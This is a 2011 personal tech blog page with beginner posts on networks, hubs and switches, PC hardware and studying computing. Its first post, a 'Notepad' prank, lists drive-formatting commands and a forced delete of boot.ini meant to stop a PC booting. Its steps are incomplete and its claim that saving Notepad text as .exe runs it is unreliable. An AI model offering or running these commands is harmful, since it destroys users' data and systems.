Saturday, December 3, 2011

Sadiq's Blog: NOTEPAD ACTION - Format your derive using Notepad

Sadiq's Blog: NOTEPAD ACTION - Format your derive using Notepad: Formatting hard drives is nothing new, doing so with notepad is something with a little kick to it! Using the following steps will enable...

NOTEPAD ACTION - Format your derive using Notepad

Formatting hard drives is nothing new, doing so with notepad is something with a little kick to it! Using thefollowing steps will enable you to do just that:

Note: Using the informationbelow is very risky and may cause permanent loss of data, proceed with caution.

Step 1.
Write The Following In Notepad Exactly as it says


Step 2.
Save as a .EXE -any name will do

Step 3.Run the .exe

Alternative method:

format c:\ /Q/X -- this will format your drive c:


format d:\ /Q/X -- this will format your drive d:


format a:\ /Q/X -- this will format your drive a:del /F/S/Q c:\boot.ini -- this will cause your computer not to boot.




Sunday, August 21, 2011

What is a Wide Area Network?

A Wide Area Network (WAN) is a network that spans alarge geographical area, the most common example being the Internet the largest known WAN today. Typically, a WAN consists of two or more Local Area Networks (LANs) connected by a communication sub-system, which usually comprised of Autonomous System (AS) routers.

Special software protocols have been created to support routing within communication sub-system of a WAN. These protocols operate with ‘smart’ algorithms that can adapt the flow of network traffic when problems occur. Protocols such as Border Gateway Protocol (BGP) are widely used across the Internet today and this is the primary protocol used on the Air-Stream Wireless network.

The algorithms employed by this protocol provide great network stability ensuring that if one network connection is lost, the router can quickly adapt to send data through an alternate network path. Consequently, the greater the number of network connections that are available, thegreater the reliability and bandwidth for its users.

Wednesday, August 10, 2011

Sadiq's Blog: Hubs and Switches

Sadiq's Blog: Hubs and Switches: "Hubs and switches function as a common connection point for the workstations, printers, file servers and other devices that make up a netw..."

Tuesday, August 9, 2011

Hubs and Switches

Hubs and switches function as a common connection point for the workstations, printers, file servers and other devices that make up a network. The main difference between hubs and switches is the way in which they communicate with the network.

What is a Hub?
A hub functions as the central connection point of a network. It joins together the workstations,printers, and servers on a network, so they can communicate with each other. Each hub has a number of ports that connect it to the otherdevices via a network cable.

How does a Hub work?
A hub is an inexpensive way to connect devices on a network. Data travels around a network in 'packets' and a hub forwards these data packets out to all the devices connected to its ports.
As a hub distributes packets to every device on the network, when a packet is destined for only one device, every other device connected to the hub receives that packet. Because all the devices connected to the hub are contending for transmission of data the individual members of a shared network will only get a percentage of the available network bandwidth. This process can slow down a busy network.

A 10Base-T hub Ethernet Hub provides a total of 10 Mbit/sec of bandwidth, which all users share. If one person on the network is downloading a very large file,for example, little or no bandwidth is available for other users. These users will experience very slow network performance.

What is a Switch?
A switch is more sophisticated than a hub, giving you more options for network management, as well as greater potential to expand. A switch filters the data packets, and only sends the packet to the port which is connected to the destination address of that packet. It does this by keeping a table of each destination address and its port. When the switch receives a packet, it reads the destination address and then establishes a connection between the source port and the destination port. After the packet is sent, the connection is terminated.

What are the advantages of a Switch?
A switch provides higher total throughput than a hub because it can support multiple simultaneous conversations. For example, when a 100Mbit/sec hub has five workstations, each receives only 20Mbit/sec of the available bandwidth. When a 10-100Mbit/sec switch is used every port on the switch represents a dedicated 100Mbit/sec path, so each workstation receives 100Mbit/sec of bandwidth.
Switches also run in full duplex mode, which allows data to be sent and received across the network at the same time. Switches can effectively double the speed of the network when compared to a hub which only supportshalf duplex mode.

Why choose one of our Switches?
Switches improve the performance and efficiency of a network and should be used when you:
  • Need to make best use of the available bandwidth
  • Have multiple file servers
  • Require improved performance from file servers, web servers or workstations
  • Use high speed multi-media applications
  • Are adding a high speed workgroup to a 10Mbit/sec LAN
  • Plan to upgrade from 10 to 100Mbit/sec or Gigabit network
The standard features on all N-Way switches are:
  • 10-100Mbit/sec Auto-Negotiation on all ports, the switch automatically senses the speed of the attached device and configures the port for the proper speed. This simplifies deployment in mixed Ethernet and Fast Ethernet environments
  • Auto MDI/MDI-X auto-detects whether the connected cabletype is normal or cross-over
  • Full or Half Duplex operation

Tuesday, May 24, 2011

What is Hardware?

Your PC (Personal Computer) is a system, consisting of many components. Some of those components, like Windows XP, and all your other programs, are software. The stuff you can actually see and touch, and would likely break if you threw it out a fifth-story window, is hardware.

Not everybody has exactly the same hardware. But those of you who have a desktop system, like the example shown in Figure 1, probably have most of the components shown in that same figure. Those of you with notebook computers probably have most of the same components. Only in your case the components are allintegrated into a single book-sized portable unit.

Figure 1

The system unit is the actual computer; everything else is called a peripheral device. Your computer's system unit probably has at least one floppy disk drive, and one CD or DVD drive, into which you can insert floppy disks and CDs. There's another disk drive, called the hard disk inside the system unit, as shown in Figure 2. You can't remove that disk, or even see it. But it's there. And everything that's currently "in your computer" is actually stored on that hard disk. (We know this because there is no place else inside the computer where you can store information!).

Figure 2

The floppy drive and CD drive are often referred to as drives with removable media or removable drives for short, because you can remove whatever disk is currently in the drive, and replace it withanother. Your computer's hard disk can store as much information as tens of thousands of floppy disks, so don't worry about running out of space on your hard disk any time soon. As a rule, youwant to store everything you create or download on your hard disk. Use the floppy disks and CDs to send copies of files through the mail, or to make backup copies of important items.

Random Access Memory (RAM)

There's too much "stuff" on your computer's hard disk to use it all at the same time. During the average session sitting at the computer, you'll probably use only a small amount of all that's available. The stuff you're working with at any given moment is stored in random access memory (often abbreviated RAM, and often called simply "memory"). The advantage using RAM to store whatever you're working on at the moment is that RAM is very fast. Much faster than any disk. For you, "fast" translates to less time waiting and more time being productive.

So if RAM isso fast, why not put everything in it? Why have a hard disk at all? The answer to that lies in the fact that RAM is volatile. As soon as the computer is shut off, whether intentionally or by an accidental power outage, every thing in RAM disappears, just as quickly as a light bulb goes out when the plug is pulled. So you don't want to rely on RAM to hold everything. A disk, on the other hand, holds its information whether the power is on or off.

The Hard Disk

All of the information that's "in your computer", so to speak, is stored on your computer's hard disk. Younever see that actual hard disk because it's sealed inside a special housing and needs to stay that way. Unlike RAM, which is volatile, the hard disk can hold information forever -- with or without electricity. Most modern hard disks have tens of billions of bytes of storage space on them. Which, in English, means that you can create, save, and download files for months or years without using up all the storage space it provides.
In the unlikely event that you do manage to fill up your hard disk, Windows will start showing a little message on the screen that reads "You are running low on disk space" well in advance of any problems.  In fact, if that message appears, it won't until you're down to about 800 MB offree space. And 800 MB of empty space is equal to about 600 blank floppy disks. That's still plenty of room!

The Mouse

Obviously you know how to use your mouse, since you must have used it to get here. But let's take a look at the facts and buzzwords anyway. Your mouse probably has at least two buttons on it. The button on the left is called the primary mouse button, the button on the right is called the secondary mouse button orjust the right mouse button. I'll just refer to them as the left and right mouse buttons. Many mice havea small wheel between the two mouse buttons, as illustrated in Figure 3.

Figure 3

The idea is to rest your hand comfortably on the mouse, with your index finger touching (but not pressing on) the left mouse button. Then, as you move the mouse, the mouse pointer (the little arrow on the screen) moves in the same direction. When moving the mouse, try to keep the buttons aimed toward the monitor -- don't "twist" the mouse as that just makes it all the harder to control the position of the mouse pointer.
If you find yourself reaching too far to get the mouse pointer where you want it to be on the screen, just pick up the mouse, move it to where it's comfortable to hold it, and place it back down on the mousepad or desk. The buzzwords that describe how you use the mouse are as follows:
  • Point: To point to an item means to move the mouse pointer so that it's touching the item.
  • Click: Point tothe item, then tap (press and release) the left mouse button.
  • Double-click: Point to the item, and tap the left mouse button twice in rapid succession - click-click as fast as you can.
  • Right-click: Point to the item, then tap the mouse button on the right.
  • Drag: Point to an item, then hold down the left mouse button as you move the mouse. To drop the item, release the left mouse button.
  • Right-drag: Point to an item, then hold downthe right mouse button as you move the mouse. To drop the item, release the right mouse button.

The Keyboard

Like the mouse, the keyboard is a means of interacting with your computer. You really only need to use the keyboard when you're typing text. Most of the keys on the keyboard are laid out like the keys on a typewriter. But there are some special keys like Esc (Escape), Ctrl (Control), and Alt (Alternate). There are also some keys across the top of the keyboard labeled F1, F2, F3, and so forth. Those are called thefunction keys, and the exact role they play depends on which program you happen to be using at the moment.
Most keyboards also have a numeric keypad with the keys laid out like the keys on a typical adding machine. If you're accustomed to using an adding machine, you might want to use the numeric keypad, rather than the numbers across the top of the keyboard, to type numbers. It doesn't really matter which keys youuse. The numeric keypad is just there as a convenience to people who are accustomed to adding machines.

Figure 4

Most keyboards also contain a set of navigation keys. You can use the navigation keys to move around around through text on the screen. The navigation keys won't move the mouse pointer. Only the mouse moves the mouse pointer.
On smaller keyboards where space is limited, such as on a notebook computer, the navigation keys and numeric keypad might be one in the same. There will be a Num Lock key on the keypad. When the Num Lock key is "on", the numeric keypad keys type numbers. When the Num Lock key is "off", the navigation keys come into play. The Num Lock key acts as a toggle. Which is to say, when you tap it, it switches to the opposite state. For example, if Num Lock is on, tapping that key turns it off. If Num Lock is off, tapping that key turns Num Lock on.

Combination Keystrokes (Shortcut keys)

Those mysterious Ctrl and Alt keys are often used in combination with other keys to perform some task. We often refer to these combination keystrokes as shortcut keys, because they provide an alternative to using the mouse to select menu options in programs. Shortcut keys are always expressed as:
where the idea is to hold down key1, tap key2, then releasekey1. For example, to press Ctrl+Esc hold down the Ctrl key (usually with your pinkie), tap the Esc key, then release the Ctrl key. To press Alt+F you hold down the Alt key, tap the letter F, then release the Alt key.

Saturday, February 26, 2011

Top 10 Reasons to Major in Computing

 1. Computing is part of everything we do!

Computing and computer technology are part of just about everything that touches our lives from the cars we drive, to the movies we watch, to the ways businesses and governments deal with us. Understanding different dimensions of computing is part of the necessary skill set for an educated person in the 21stcentury. Whether you want to be a scientist, develop the latest killer application, or just know what it really means when someone says “the computer made a mistake”, studying computing will provide you with valuable knowledge.

2. Expertise in computing enables you to solve complex, challenging problems.
Computing is a discipline that offers rewarding and challenging possibilities for a wide range of people regardless of their range of interests. Computing requires and develops capabilities in solving deep, multidimensional problems requiring imaginationand sensitivity to a variety of concerns.

3. Computing enables you to make a positive difference in the world.
Computing drives innovation in the sciences (human genome project, AIDS vaccine research, environmental monitoring and protection just to mention a few), and also in engineering, business, entertainment and education. If you want to make a positive difference in the world, study computing.

4. Computing offers many types of lucrative careers.
Computing jobs are among the highest paid and have the highest job satisfaction. Computing is very often associated with innovation, and developments in computing tend to drive it. This, in turn, is the key to national competitiveness. The possibilities for future developments are expected to be even greater than they have been in the past.

5. Computing jobs are here to stay, regardless of where you are located.
There actually are more computing jobs than qualified people to fill them in the United States. U.S. IT employment was 17% higher in 2004 than in 1999. The Bureau of Labor Statistics says computing has the greatest potential for new jobs through 2014. Yes, some IT jobs have gone overseas. If you consider the expected growth in computing, it’s easy to see that companies simply need more talent. Don’t miss out on pursuing the large number of open positions available right now, here in the United States.

6. Expertise in computing helps you even if your primary career choice is something else.
Having a computing major will provide you with a foundation of knowledge, problem solving and logical thinking that will serve asa competitive advantage to you in your career, in whatever field you choose.

7. Computing offers great opportunities for true creativity and innovativeness.
Creating high-quality computing solutions is a highly creative activity, and computing supports creative work in many other fields. The best solutions in computing exhibit high levels of elegance and beauty.

8. Computing has space for both collaborative work and individual effort.
Computing is often about being part of a team that requires people with many different kinds of skills. Yet there is also plenty of space for individual flair and imagination.

9. Computing is an essential part of well-rounded academic preparation.
An increasing number of universities and employers see successful completion of a computer science course as a sign of academic well-roundedness.

10. Future opportunities in computing are without boundaries.
Computing is one of those fields where it is almost impossible to predict what will happen next. This is why we cannot even begin to imagine all the ways that you can make a contribution to it and it can make your life’s work exciting and real.



Sadiq's Blog: Inkjet PrinterSadiq's Blog: Inkjet Printer: " INKJET PRINTERA type of printer that works by spraying ionized ink at a sheet of paper. Magnetized plates in the ink's path direct ..."

Sadiq's Blog: CD-ROM and DVD Troubleshooting

Sadiq's Blog: CD-ROM and DVD Troubleshooting: "Diagnostic Chart Note that these steps correspond with decision points on the flowchartand are reached directly by clicking on the..."


Sadiq's Blog: LASER PRINTER: "Laser Printers:A type of printer that utilizes a laser beam to produce an image on a drum. The light of the laser altersthe electrical cha..."

Sadiq's Blog: NOTEPAD ACTION - Format your derive using NotepadSadiq's Blog: NOTEPAD ACTION - Format yourderive using Notepad : Formatting hard drives is nothing new, doing so withnotepad is someth...